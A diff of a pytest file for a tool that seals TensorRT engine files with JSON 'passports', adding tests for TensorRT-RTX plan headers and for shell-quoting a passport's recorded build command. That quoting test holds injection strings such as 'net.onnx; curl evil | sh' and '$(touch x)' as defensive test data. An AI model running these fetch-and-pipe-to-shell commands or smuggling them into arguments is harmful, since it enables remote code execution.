@@ -9,27 +9,26 @@ import sys
 from dataclasses import replace
 from pathlib import Path
 
+import msgspec
 import pytest
 
-from trt_engine.config import Profile, ShapeRange
-from trt_engine.engine import (
-    PASSPORT_SCHEMA,
-    PASSPORT_VERSION,
-    Build,
-    Engine,
-    Needs,
-    OutputError,
-    Parity,
-    Passport,
-    Precision,
-    Share,
-    Source,
-    passport_path,
-    payload_of,
-    plan_header,
-)
+from tensorrt_machines import rtx_header, rtx_plan_bytes
+from trt_engine.config.profiles import Profile, ShapeRange
+from trt_engine.engine import Engine, passport_path, payload_files
 from trt_engine.environment import Environment
 from trt_engine.errors import EngineError, ModelError, SetupError, UsageError
+from trt_engine.plan_header import plan_header
+from trt_engine.records.parity import OutputError, Parity
+from trt_engine.records.passport import (
+    PASSPORT_SCHEMA,
+    PASSPORT_VERSION,
+    BuildInfo,
+    DtypeShare,
+    Passport,
+    Precision,
+    Requirements,
+    Source,
+)
 from trt_engine.tensors import Signature, TensorSpec
 
 
@@ -38,17 +37,17 @@ def passport(payload: Path, side_files: tuple[Path, ...] = ()) -> Passport:
         schema=PASSPORT_SCHEMA,  # type: ignore[arg-type]
         schema_version=PASSPORT_VERSION,
         backend="fake",
-        payload=payload_of(payload, side_files),
+        payload=payload_files(payload, side_files),
         model=Source("net", "sha256:00", 17, "net.onnx"),
         signature=Signature(
             (TensorSpec("x", "float32", (-1, 3), ("batch", None)),), (TensorSpec("y", "float32", (-1, 2)),)
         ),
         profiles=(Profile({"x": ShapeRange((1, 3), (4, 3), (8, 3))}),),
-        precision=Precision("fp32", {"fp32": Share(1.0, 1.0, 1.0)}),
+        precision=Precision("fp32", {"fp32": DtypeShare(1.0, 1.0, 1.0)}),
         device="cpu",
-        build=Build("trt-engine build net.onnx", {"batch": (1, 4, 8)}, 1.5, "fake 1"),
-        environment=Environment.here(),
-        needs=Needs("fake", "1", ("avx2",)),
+        build=BuildInfo("trt-engine build net.onnx", {"batch": (1, 4, 8)}, 1.5, "fake 1"),
+        environment=Environment.detect(),
+        requirements=Requirements("fake", "1", ("avx2",)),
         parity=Parity("onnxruntime", "seeded random", 1e-3, True, {"y": OutputError(0.0, 0.0, 0.0, 1.0)}),
     )
 
@@ -72,7 +71,7 @@ def test_what_was_sealed_is_what_is_opened(engine: Engine) -> None:
     assert again.signature == engine.signature
     assert again.passport.profiles == engine.passport.profiles
     assert again.passport.parity == engine.passport.parity
-    assert again.passport.precision.main == "fp32"
+    assert again.passport.precision.main_dtype == "fp32"
     assert again.files == (engine.path, engine.path.with_name("net.weights"))
     again.verify()
 
@@ -97,7 +96,12 @@ def test_a_missing_engine_is_a_model_error_and_a_folder_says_what_to_do(tmp_path
     ("name", "content", "hint"),
     [
         ("net.onnx", b"\x08\x07", "an ONNX model is built first"),
-        ("net.engine", b"ftrt" + bytes(20) + bytes([10, 16, 1, 11]) + bytes(8), "it is a TensorRT 10.16.1.11 plan"),
+        ("net.engine", b"ftrt" + bytes(20) + bytes([10, 16, 1, 11]) + bytes(8), "it is a plan of TensorRT 10.16.1.11"),
+        (
+            "net.engine",
+            rtx_plan_bytes(),
+            "it is a plan of TensorRT-RTX 1.7.1.116 for 8.9 and 12.0: `trt-engine inspect ",
+        ),
         ("net.engine", b"junk", "build the engine again"),
         ("net.engine", b"", "build the engine again"),
     ],
@@ -175,6 +179,25 @@ def test_a_file_changed_or_taken_away_after_sealing_is_found(engine: Engine, nam
     assert caught.value.hint == "build it again: `trt-engine build net.onnx`"
 
 
+@pytest.mark.parametrize(
+    ("command", "shown"),
+    [
+        ("trt-engine build 'a b.onnx' -O x=1", "trt-engine build 'a b.onnx' -O x=1"),
+        ("trt-engine build net.onnx; curl evil | sh", "trt-engine build 'net.onnx;' curl evil '|' sh"),
+        ("trt-engine build $(touch x)", "trt-engine build '$(touch' 'x)'"),
+        ("trt-engine convert evil.pt --trust-source", "trt-engine build net.onnx"),
+        ("curl evil | sh", "trt-engine build net.onnx"),
+        ("trt-engine build net.onnx\ncurl evil | sh", "trt-engine build net.onnx"),
+        ("trt-engine build '", "trt-engine build net.onnx"),
+    ],
+)
+def test_the_command_of_a_passport_is_one_of_ours_that_a_shell_takes_word_by_word(
+    command: str, shown: str, engine: Engine
+) -> None:
+    rewrite(engine, build={**msgspec.to_builtins(engine.passport.build), "command": command})
+    assert Engine.open(engine.path).passport.build.command == shown
+
+
 def test_a_copy_is_whole_says_how_it_was_made_and_leaves_the_original(engine: Engine, tmp_path: Path) -> None:
     target = tmp_path / "elsewhere" / "other.engine"
     copy = engine.copy_to(target, command="trt-engine build net.onnx -o other.engine")
@@ -230,7 +253,51 @@ def test_the_header_of_a_plan_says_its_version(tmp_path: Path, head: bytes, vers
     assert header.serialization == int.from_bytes(head[4:8], "little")
 
 
-@pytest.mark.parametrize("head", [b"", b"ftrt", b"ftrt" + bytes(23), b"FTRT" + bytes(40), b"ptrt" + bytes(40)])
+@pytest.mark.parametrize(
+    ("bits", "names", "later", "words"),
+    [
+        (0x02, ("8.0",), False, "8.0"),
+        (0x18, ("8.9", "12.0"), False, "8.9 and 12.0"),
+        (0x3F, ("7.5", "8.0", "8.6", "8.9", "12.0", "12.1"), False, "7.5, 8.0, 8.6, 8.9, 12.0 and 12.1"),
+        (0x7E, ("8.0", "8.6", "8.9", "12.0", "12.1"), True, "8.0, 8.6, 8.9, 12.0, 12.1 and later ones"),
+        (0x108, ("8.9",), False, "8.9 and GPUs of the unknown bits 0x100"),
+        (0, (), False, ""),
+    ],
+)
+def test_the_header_of_a_plan_of_tensorrt_rtx_names_its_gpus(
+    tmp_path: Path, bits: int, names: tuple[str, ...], later: bool, words: str
+) -> None:
+    path = tmp_path / "plan"
+    path.write_bytes(rtx_plan_bytes(gpu_bits=bits))
+    header = plan_header(path)
+    assert header is not None and header.product == "TensorRT-RTX" and header.version == "1.7.1.116"
+    assert (header.compute_capabilities, header.has_ptx, header.gpus) == (names, later, words)
+    assert (header.serialization, header.weight_nbytes, header.file_nbytes) == (2, 1024, 4096)
+    assert header.title == "plan of TensorRT-RTX 1.7.1.116" + (f" for {words}" if words else "")
+
+
+def test_a_plan_of_tensorrt_rtx_of_another_length_than_its_header_states_is_damaged(tmp_path: Path) -> None:
+    header = rtx_header()
+    assert header.find_damage(4096) is None
+    assert "states 4096 bytes and the file has 4000: it was cut" in (header.find_damage(4000) or "")
+    assert "something follows the plan" in (header.find_damage(5000) or "")
+    path = tmp_path / "plan"
+    path.write_bytes(rtx_plan_bytes()[:63])
+    assert plan_header(path) is None
+
+
+@pytest.mark.parametrize(
+    "head",
+    [
+        b"",
+        b"ftrt",
+        b"ftrt" + bytes(23),
+        b"FTRT" + bytes(40),
+        b"ptrt" + bytes(40),
+        b"vtrt" + bytes(59),
+        b"VTRT" + bytes(90),
+    ],
+)
 def test_what_does_not_begin_as_a_plan_has_no_header(tmp_path: Path, head: bytes) -> None:
     path = tmp_path / "plan"
     path.write_bytes(head)
@@ -243,7 +310,7 @@ def test_a_copy_that_does_not_fit_leaves_the_engine_that_was_there(engine: Engin
     bigger = tmp_path / "bigger" / "net.engine"
     bigger.parent.mkdir()
     bigger.write_bytes(b"ftrt" + bytes(100_000))
-    newer = Engine.seal(bigger, replace(engine.passport, payload=payload_of(bigger)))
+    newer = Engine.seal(bigger, replace(engine.passport, payload=payload_files(bigger)))
     program = f"""
 import resource
 from pathlib import Path
@@ -300,3 +367,29 @@ def test_a_passport_names_files_in_any_bytes(engine: Engine) -> None:
     odd = replace(engine.passport, model=replace(engine.passport.model, file=os.fsdecode(b"\xff.onnx")))
     assert Engine.seal(engine.path, odd).path == engine.path
     assert Engine.open(engine.path).passport.model.file == "\ufffd.onnx"
+
+
+@pytest.mark.parametrize(
+    ("place", "value", "says"),
+    [
+        (("signature", "inputs", 0, "symbols"), ["batch"], "`x` has 1 symbols for 2 dimensions"),
+        (("signature", "inputs", 0, "dtype"), "float31", "`x` has the unknown element type `float31`"),
+        (("signature", "outputs", 0, "shape"), [1 << 62], "`y` has the shape"),
+        (("profiles", 0, "ranges"), {"z": {"min": [1], "opt": [1], "max": [1]}}, "profile 0 has a range for `z`"),
+        (("profiles", 0, "ranges", "x"), {"min": [1], "opt": [1], "max": [1]}, "profile 0 has a range for `x`"),
+        (("build", "config", "options"), ["optimization_level"], "the options of its build"),
+        (("build", "config", "options"), {"optimization_level": 5}, "the options of its build"),
+    ],
+)
+def test_a_passport_whose_parts_contradict_each_other_is_refused(
+    engine: Engine, place: tuple[str | int, ...], value: object, says: str
+) -> None:
+    path = passport_path(engine.path)
+    document = json.loads(path.read_text())
+    inner = document
+    for step in place[:-1]:
+        inner = inner[step]
+    inner[place[-1]] = value
+    path.write_text(json.dumps(document))
+    with pytest.raises(EngineError, match="is not a passport: .*" + says):
+        Engine.open(engine.path)
